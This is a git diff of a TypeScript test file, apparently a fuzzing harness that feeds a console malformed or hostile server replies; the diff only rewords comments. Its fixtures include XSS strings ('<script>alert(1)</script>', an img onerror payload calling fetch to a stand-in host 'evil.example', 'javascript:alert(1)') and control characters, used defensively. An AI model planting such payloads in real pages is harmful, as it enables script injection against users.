@@ -3,27 +3,27 @@ import type { Failure } from '#contract/failures.ts'
 import { withMissing, withOneBroken, withSurplus, withTexts, withWrongTypes } from './mutations.ts'
 import { raw, type Misbehave } from './server.ts'
 
-/** What became of a request: the reply as the page would get it, or the failure. */
+/** The outcome of a request: the reply as the page would get it, or the failure. */
 export type Outcome = { readonly reply: unknown } | { readonly failure: Failure }
 
-/** What a kind needs to know of the moment. */
+/** The facts of one request that a kind needs. */
 export interface Scene {
   /** A reply with every field that the operation knows. */
   readonly sound: object
   readonly writes: boolean
-  /** The field of the reply that lists records; undefined where it lists none. */
+  /** The field of the reply that lists records; undefined if it lists none. */
   readonly list: string | undefined
-  /** Another server, which must never hear from the console. */
+  /** Another server, which must never get a request. */
   readonly elsewhere: string
   readonly key: string
 }
 
-/** One way to misbehave. Several answers are one request each. */
+/** One kind of misbehavior. Several answers are one request each. */
 export interface Kind {
   readonly answers: (scene: Scene) => readonly Misbehave[]
-  /** Whether the console came to the right end. */
+  /** Returns true if the console reached the right outcome. */
   readonly isHeld: (outcome: Outcome, scene: Scene) => boolean
-  /** The answer never ends, so that the request ends by its own time. */
+  /** The answer never ends, so that the request ends by its time limit. */
   readonly isSlow?: boolean
 }
 
@@ -43,7 +43,7 @@ const either =
   (...tests: readonly Kind['isHeld'][]) =>
   (outcome: Outcome, scene: Scene): boolean =>
     tests.some((test) => test(outcome, scene))
-/** A write whose answer says nothing may have been applied, and that has to be told. */
+/** A write with a meaningless answer may have been applied, and the failure must say so. */
 const openly =
   (test: Kind['isHeld']): Kind['isHeld'] =>
   (outcome, scene) =>
@@ -58,7 +58,7 @@ const html = '<!doctype html><script>alert(1)</script><h1>Sign in to the hotelâ€
 const controls = '\u0000\u0007\u001b[31m\u0085\r\nX: y\u2028\u202e\u2066\u200f\ud800'
 const script = `<img src=x onerror="fetch('//evil.example')"></script>{{constructor}}javascript:alert(1)`
 
-/** What every status is answered with here: no words of the API, and words of the API. */
+/** Each status is answered twice: with a body that isn't the API's, and with one that is. */
 const statuses = [
   201, 202, 203, 206, 207, 226, 299, 300, 304, 305, 306, 399, 400, 401, 402, 403, 404, 405, 407, 409, 410, 413, 418,
   421, 422, 426, 431, 451, 499, 500, 501, 502, 503, 504, 507, 511, 520, 599, 600, 700, 999,
@@ -68,7 +68,7 @@ export const kinds = {
   sound: { answers: ({ sound }) => [json(200, sound)], isHeld: isRead },
   'wrong types': {
     answers: ({ sound }) => withWrongTypes(sound).map((reply) => json(200, reply)),
-    // A list keeps what it can read of its records, and some fields may be anything.
+    // A list keeps its readable records, and some fields may be anything.
     isHeld: either(isRead, misshapen),
   },
   'one broken record of many': {
@@ -259,7 +259,7 @@ export const kinds = {
   },
 } as const satisfies Record<string, Kind>
 
-/** Of three records the broken one is read all the same, or is told beside the other two. */
+/** Of three records, the broken one is either read or reported next to the other two. */
 function keepsOthers(reply: unknown, list: string): boolean {
   const { [list]: records = [], unreadable = [] } = reply as Readonly<Record<string, readonly unknown[] | undefined>>
   return records.length >= 2 && records.length + unreadable.length === 3
